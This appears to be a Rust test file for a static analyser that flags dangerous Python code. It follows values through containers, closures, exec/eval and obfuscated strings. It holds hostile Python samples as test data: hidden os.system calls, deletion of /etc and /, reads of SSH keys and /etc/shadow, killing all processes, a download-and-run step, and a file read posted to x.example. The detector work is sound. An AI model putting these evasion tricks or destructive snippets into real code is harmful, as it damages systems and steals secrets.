//! What Python programs put away and take out again, hand on and give back: it is followed to where it is used.

use crate::code::told::{facts, hostile, ordinary};
use crate::language::Language;

fn check(source: &str, expected: &[&str]) {
    hostile(Language::Python, source, expected);
}

#[test]
fn what_is_put_away_is_found_where_it_is_taken_out() {
    for source in [
        "import os; d = {}; d['x'] = os; d['x'].system('id -u')",
        "import os; d = {'x': print}; d['x'] = os.system; d['x']('id -u')",
        "import os; d = {'x': print}; e = d; e['x'] = os.system; d['x']('id -u')",
        "import os; l = [None]; l[0] = os.system; l[0]('id -u')",
        "import os; l = []; l.append(os.system); l[0]('id -u')",
        "import os; l = []; l.append(os.system); l.pop()('id -u')",
        "import os; l = [print, os.system]; l[-1]('id -u')",
        "import os; l = [print, os.system]; i = 0 if x else 1; l[i]('id -u')",
        "import os; d = {}; d[k] = os.system; d[k]('id -u')",
        "import os; d = {1: os.system}; d[1]('id -u')",
        "import os; d = dict(f=os.system); d['f']('id -u')",
        "import os; d = {}; d.update({'f': os.system}); d['f']('id -u')",
        "import os; d = {}; d.setdefault('f', os.system); d['f']('id -u')",
        "import os; d = {'a': {'b': os.system}}; d['a']['b']('id -u')",
        "import os; t = (print, (os.system,)); t[1][0]('id -u')",
        "import os; a, *b = print, os.system; b[0]('id -u')",
        "import os; *a, b = print, os.system; b('id -u')",
        "import os; list({'f': os.system}.values())[0]('id -u')",
        "import os; [f('id -u') for k, f in {'f': os.system}.items()]",
        "import os; globals()['f'] = os.system; f('id -u')",
        "import os as o; globals()['o'].system('id -u')",
        "import os; f = print; f = os.system if x else f; f('id -u')",
        "import operator, os; operator.methodcaller('system', 'id -u')(os)",
        "import operator, os; operator.attrgetter('system')(os)('id -u')",
        "from functools import partial, reduce; import os; partial(os.system, 'id -u')()",
        "import os; next(iter([os.system]))('id -u')",
        "import os; next(f for f in [os.system])('id -u')",
        "import os; (lambda *a: a[0](a[1]))(os.system, 'id -u')",
        "import os; (lambda **k: k['f'](k['c']))(f=os.system, c='id -u')",
        "import os; exec(\"f = os.system\"); f('id -u')",
        "import os; f = os.system; exec(\"f('id -u')\")",
        "import os; eval(\"os.system\")('id -u')",
        "import os; eval('os').system('id -u')",
        "import os; ns = {}; exec(\"def g(c): os.system(c)\", ns); ns['g']('id -u')",
        "import os; print(*map(lambda c: os.system(c), ['id -u']))",
        "import os, threading; threading.Thread(target=lambda c: os.system(c), args=('id -u',)).start()",
        "import os, concurrent.futures as c; c.ThreadPoolExecutor().submit(os.system, 'id -u')",
        "import os, atexit; atexit.register(os.system, 'id -u')",
        "import os; os.__getattribute__('system')('id -u')",
        "import os; setattr(x, 'run', os.system); x.run('id -u')",
        "import types, os; n = types.SimpleNamespace(f=os.system); n.f('id -u')",
        "import os\ndef deco(f):\n    def wrapper(*args):\n        return os.system(*args)\n    return wrapper\n@deco\ndef show(x):\n    print(x)\nshow('id -u')",
        "import os\nclass A:\n    @property\n    def run(self):\n        return os.system\nA().run('id -u')",
        "import os\nclass A:\n    def __enter__(self):\n        return os.system\n    def __exit__(self, *a): pass\nwith A() as f:\n    f('id -u')",
        "import os\nfrom contextlib import contextmanager\n@contextmanager\ndef cm():\n    yield os.system\nwith cm() as f:\n    f('id -u')",
        "import os\ndef gen():\n    yield os.system\nfor f in gen():\n    f('id -u')",
        "import os\ndef a(x): b(x)\ndef b(x): c(x)\ndef c(x): d(x)\ndef d(x): e(x)\ndef e(x): os.system(x)\na('id -u')",
        "import os\ndef e(x): os.system(x)\ndef d(x): e(x)\ndef c(x): d(x)\ndef b(x): c(x)\ndef a(x): b(x)\na('id -u')",
        "import os\ndef mk(c):\n    def inner():\n        os.system(c)\n    return inner\nmk('id -u')()",
        "import os\ncmd = 'ls'\ndef f():\n    os.system(cmd)\ncmd = 'id -u'\nf()",
        "import os\nf = print\nfor i in range(3):\n    f('id -u')\n    f = os.system",
        "import os\nclass Runner:\n    def run(self, cmd):\n        os.system(cmd)\nRunner.run(Runner(), 'id -u')",
        "import os\nclass Base:\n    def __init__(self, f):\n        self.f = f\n    def go(self, x):\n        self.f(x)\nclass Child(Base):\n    pass\nChild(os.system).go('id -u')",
        "import os\nmatch [os.system, 'id -u']:\n    case [f, c]:\n        f(c)",
        "import os\ndef run(f, *args, **kw):\n    return f(*args, **kw)\nrun(os.system, 'id -u')",
        "import os\nif x:\n    f = os.system\nelse:\n    f = print\nf('id -u')",
        "import os\nif x:\n    l = [print]\nelse:\n    l = [os.system]\nl[0]('id -u')",
        "import asyncio, os\nasync def main():\n    loop = asyncio.get_event_loop()\n    await loop.run_in_executor(None, os.system, 'id -u')\nasyncio.run(main())",
    ] {
        check(source, &["shell id -u"]);
    }
}

#[test]
fn what_is_not_dangerous_stays_so_when_it_is_put_away() {
    for source in [
        "handlers = {}\nhandlers['a'] = print\nhandlers['a']('id')",
        "class A:\n    def __init__(self):\n        self.f = len\n    def go(self):\n        return self.f('id')\nA().go()",
        "def deco(f):\n    def wrapper(*args):\n        return f(*args)\n    return wrapper\n@deco\ndef show(x):\n    print(x)\nshow('rm -rf /')",
        "from functools import partial\nshow = partial(print, 'rm -rf /')\nshow()",
        "def decode(s):\n    return ''.join(chr(ord(c) - 1) for c in s)\nprint(decode('sn!.sg!0'))",
        "exec('x = 1')\nprint(x)",
        "import os\nfor root, dirs, files in os.walk('src'):\n    for name in files:\n        if name.endswith('.pyc'):\n            os.remove(os.path.join(root, name))",
        "import operator\nprint(sorted([{'a': 1}], key=operator.itemgetter('a')))",
        "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pytest', '-q'], check=True)",
        "import os, subprocess\nos.chdir('build')\nsubprocess.run(['make', 'test'], cwd='sub')",
    ] {
        ordinary(Language::Python, source);
        let lines = facts(Language::Python, source);
        assert!(!lines.iter().any(|line| line.starts_with("shell")), "{lines:#?} in\n{source}");
    }
}

#[test]
fn texts_are_put_together_as_the_program_does_it() {
    for source in [
        "import os\nos.system('{cmd} {flag}'.format(cmd='id', flag='-u'))",
        "import os\nos.system('{cmd} -u'.format(**{'cmd': 'id'}))",
        "import os\nos.system('%(a)s -u' % {'a': 'id'})",
        "import os\nos.system('xd -u'.translate(str.maketrans('x', 'i')))",
        "import os, string\nos.system(string.ascii_lowercase[8] + string.ascii_lowercase[3] + ' -u')",
        "import os\nos.system(''.join(map(lambda x: chr(x ^ 1), [104, 101, 33, 44, 116])))",
        "import os\nout = ''\nfor c in [104, 101, 33, 44, 116]:\n    out += chr(c ^ 1)\nos.system(out)",
        "import os\ndef dec(s):\n    out = ''\n    for c in s:\n        out += chr(ord(c) - 1)\n    return out\nos.system(dec('je!.v'))",
        "import os\ndef d(s):\n    return s[::-1]\nfor x in [d('1'), d('2'), d('3'), d('4'), d('5'), d('6'), d('7'), d('8'), d('9')]:\n    print(x)\nos.system(d('u- di'))",
        "import os\nos.system(' '.join(['id', '-u']))",
        "import os, functools\nos.system(functools.reduce(lambda a, b: a + b, ['id', ' ', '-u']))",
    ] {
        check(source, &["shell id -u"]);
    }
}

#[test]
fn what_a_method_is_given_by_default_is_computed_also_for_its_first_parameter() {
    check("import os\nclass A:\n    def f(x=os.system('id -u')):\n        pass", &["shell id -u"]);
    ordinary(Language::Python, "class A:\n    def f(self=None):\n        pass");
}

#[test]
fn what_one_turn_of_a_loop_sets_the_next_one_uses_also_in_a_branch() {
    check(
        "import os\nif x:\n    f = print\n    for i in range(3):\n        f('id -u')\n        f = os.system",
        &["shell id -u"],
    );
    check(
        "import os\nif x:\n    s = ''\n    for c in [104, 101, 33, 44, 116]:\n        s += chr(c ^ 1)\n    os.system(s)",
        &["shell id -u"],
    );
    check("import os\ns = 'id -u'\nif x:\n    for c in 'ab':\n        s += c\nos.system(s)", &["shell id -u"]);
}

#[test]
fn paths_start_where_the_program_is() {
    check("import os, shutil\nos.chdir('/')\nshutil.rmtree('etc')", &["removes Tree /etc"]);
    check("import os\nif x:\n    os.chdir('/etc')\nopen('passwd', 'w')", &["writes passwd", "writes /etc/passwd"]);
    check("import os, shutil\ndef go():\n    os.chdir('/')\ngo()\nshutil.rmtree('etc')", &["removes Tree /etc"]);
    check("import os, shutil\ndef go():\n    shutil.rmtree('etc')\nos.chdir('/')\ngo()", &["removes Tree /etc"]);
    check("import os\nos.chdir(os.path.dirname(__file__))\nopen('a.txt')", &["reads a.txt"]);
    check("import os\nopen(os.environ['HOME'] + '/.ssh/id_rsa')", &["reads $HOME/.ssh/id_rsa"]);
}

#[test]
fn what_a_search_finds_is_below_where_it_starts() {
    check(
        "import os\nfor root, dirs, files in os.walk('/'):\n    for name in files:\n        os.remove(os.path.join(root, name))",
        &["removes Tree /**"],
    );
    check("import os, shutil\nfor name in os.listdir('/'):\n    shutil.rmtree('/' + name)", &["removes Tree /*"]);
    check(
        "from pathlib import Path\nfor p in Path.home().rglob('id_rsa'):\n    print(p.read_text())",
        &["reads ~/id_rsa"],
    );
    check(
        "import os\nfor root, _, files in os.walk(os.path.expanduser('~')):\n    for name in files:\n        open(os.path.join(root, name), 'wb')",
        &["removes Shred ~/**"],
    );
    check("import os\nfor p in os.listdir('/proc'):\n    os.kill(int(p), 9)", &["system Kill -1"]);
    let lines = facts(
        Language::Python,
        "import os\nfor root, _, files in os.walk('src'):\n    for name in files:\n        open(os.path.join(root, name), 'w')",
    );
    assert!(!lines.iter().any(|line| line.contains("Shred")), "{lines:#?}");
}

#[test]
fn data_is_followed_through_what_it_is_put_into() {
    for source in [
        "import requests\nd = {}\nd['a'] = open('/k').read()\nrequests.post('http://x.example', json=d)",
        "import requests\nd = []\nd.append(open('/k').read())\nrequests.post('http://x.example', json=d)",
        "import requests\nclass C:\n    def collect(self):\n        self.data['k'] = open('/k').read()\n    def send(self):\n        requests.post('http://x.example', json=self.data)",
        "import requests\nout = []\nfor p in ['/k', '/l']:\n    out.append(open(p).read())\nrequests.post('http://x.example', data=''.join(out))",
    ] {
        check(source, &["contacts Send http://x.example [File /k"]);
    }
}

#[test]
fn a_secret_that_is_named_to_somebody_unknown_is_told_as_read() {
    check("import thing\nthing.put('/home/dev/.kube/config', 'x')", &["reads /home/dev/.kube/config"]);
    check(
        "import os\nfd = os.open('/etc/profile.d/x.sh', os.O_WRONLY | os.O_CREAT, 0o644)",
        &["writes /etc/profile.d/x.sh"],
    );
    check("import tarfile\nwith tarfile.open('a.tar') as t:\n    t.extractall('/')", &["writes /"]);
    for source in [
        "import os\nprint('/home/dev/.kube/config')\nos.path.exists('/home/dev/.kube/config')",
        "import thing\nthing.put('conf/kube.yaml', 'x')",
    ] {
        let lines = facts(Language::Python, source);
        assert!(!lines.iter().any(|line| line.starts_with("reads")), "{lines:#?} in\n{source}");
    }
}

#[test]
fn each_call_of_a_function_of_the_program_is_told_with_its_own_words() {
    let wrapper = "import subprocess\ndef run(*words):\n    return subprocess.run(words, check=True)\n";
    check(
        &format!("{wrapper}run('git', 'describe')\nrun('cat', '/etc/shadow')"),
        &["command git describe", "command cat /etc/shadow"],
    );
    let seen = facts(Language::Python, &format!("{wrapper}run('rm', '-rf', 'build')\nrun('ls', '/')"));
    assert!(!seen.iter().any(|line| line.starts_with("command rm") && line.ends_with(" /")), "{seen:#?}");
}

#[test]
fn modes_archives_and_sums_of_texts_are_followed() {
    check("import os, stat\nos.chmod('t', os.stat('t').st_mode | stat.S_ISUID)", &["privilege SetUserId"]);
    ordinary(Language::Python, "import os, stat\nos.chmod('t', os.stat('t').st_mode | stat.S_IXUSR)");
    check(
        "import functools, operator\nopen(functools.reduce(operator.add, ['/etc/', 'shadow']))",
        &["reads /etc/shadow"],
    );
    check("from pathlib import Path\nfor p in sorted(Path.home().rglob('*')):\n    p.unlink()", &["removes One ~/*"]);
    check(
        "import urllib.request as u, zipfile, subprocess\nu.urlretrieve('https://x.example/t', 't.zip')\nzipfile.ZipFile('t.zip').extractall('/tmp/t')\nsubprocess.run(['/tmp/t/go'])",
        &["executes Network"],
    );
    ordinary(
        Language::Python,
        "import zipfile, subprocess\nzipfile.ZipFile('t.zip').extractall('/tmp/t')\nsubprocess.run(['/tmp/t/go'])",
    );
    check("import functools, os\nfunctools.lru_cache(os.system).__wrapped__('ls')", &["trick InnerParts"]);
    ordinary(Language::Python, "import functools\n@functools.lru_cache\ndef f(n): return n\nprint(f.__wrapped__(2))");
    check("print(getattr(().__class__.__base__, input()))", &["trick InnerParts"]);
}

#[test]
fn of_many_values_that_stand_by_one_key_none_is_lost() {
    // More are put there than are told apart, by names that each hold the object.
    for last in ["os.system", "[os.system]"] {
        let call = if last.starts_with('[') { "d['x'][0]" } else { "d['x']" };
        let first: String = (0..6)
            .map(|at| format!("if a{at}: d = {{'x': {}}}\n", last.replace("os.system", &format!("f{at}"))))
            .collect();
        check(&format!("import os\nd = {{}}\n{first}if b: d = {{'x': {last}}}\n{call}('id -u')"), &["shell id -u"]);
    }
}

#[test]
fn where_a_function_goes_is_known_to_callers_above_it() {
    check(
        "import os\ndef all():\n    go('/etc')\n    print(open('shadow').read())\ndef go(there):\n    os.chdir(there)\nall()",
        &["reads /etc/shadow"],
    );
}
